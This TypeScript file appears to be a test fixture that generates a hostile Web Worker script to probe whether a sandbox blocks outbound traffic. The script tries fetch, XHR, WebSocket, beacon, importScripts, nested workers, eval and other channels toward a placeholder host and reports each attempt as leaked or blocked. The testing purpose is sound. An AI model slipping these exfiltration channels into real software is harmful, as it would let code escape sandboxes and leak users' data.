/**
 * A hostile engine: on its first message it tries every way out of a worker, towards `other` and back to `own`, and
 * answers with what each attempt gave. It speaks enough of the protocol to put its answer on the page.
 */
export const probe = (other: string, own: string): string => `
const attempts = {
  fetchOther: () => fetch("${other}/fetch"),
  fetchNoCors: () => fetch("${other}/no-cors", { mode: "no-cors" }),
  fetchOwn: () => fetch("${own}/leak-fetch"),
  fetchKeepalive: () => fetch("${other}/keepalive", { method: "POST", body: "x", keepalive: true, mode: "no-cors" }),
  xhr: () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.open("GET", "${other}/xhr"); x.onload = done; x.onerror = failed; x.send(); }),
  webSocket: () => new Promise((done, failed) => { const s = new WebSocket("${other.replace("http", "ws")}/socket"); s.onopen = done; s.onerror = failed; }),
  eventSource: () => new Promise((done, failed) => { const s = new EventSource("${other}/events"); s.onopen = done; s.onerror = failed; }),
  webTransport: async () => { const t = new WebTransport("${other.replace("http:", "https:")}/transport"); await t.ready; },
  importScripts: () => importScripts("${other}/import-scripts.js"),
  dynamicImport: () => import("${other}/module.js"),
  dataImport: () => import("data:text/javascript,export default 1"),
  beacon: () => { if (!navigator.sendBeacon("${other}/beacon", "x")) throw new Error("refused"); },
  nestedWorker: () => new Promise((done, failed) => { const w = new Worker("${other}/worker.js"); w.onmessage = done; w.onerror = failed; }),
  nestedBlob: () => new Promise((done, failed) => {
    const text = 'fetch("${other}/nested").then(() => postMessage("LEAK"), (e) => { throw e })';
    const w = new Worker(URL.createObjectURL(new Blob([text])));
    w.onmessage = done; w.onerror = failed;
  }),
  cacheAdd: async () => { const c = await caches.open("x"); await c.add("${other}/cache"); },
  indexedDB: () => new Promise((done, failed) => { const r = indexedDB.open("x"); r.onsuccess = done; r.onerror = failed; }),
  evaluate: () => (0, eval)('fetch("${other}/eval")'),
  newFunction: () => new Function('return fetch("${other}/function")')(),
};
const limited = (promise) => Promise.race([promise, new Promise((_, failed) => setTimeout(() => failed(new Error("no answer")), 1500))]);
async function tryAll() {
  const out = {};
  await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    try { await limited((async () => attempt())()); out[name] = "LEAK"; } catch (error) { out[name] = "blocked: " + (error && error.message || error && error.type || error); }
  }));
  return out;
}
onmessage = (event) => {
  const port = event.ports && event.ports[0];
  if (!port) return void tryAll().then((out) => postMessage(out));
  port.onmessage = async ({ data }) => {
    if (data.kind === "start") return port.postMessage({ kind: "ready" });
    if (data.kind === "classify") return port.postMessage({ kind: "kinds", id: data.id, kinds: data.files.map(() => "csharp") });
    port.postMessage({ kind: "failed", id: data.id, reason: JSON.stringify(await tryAll()) });
  };
};
`;
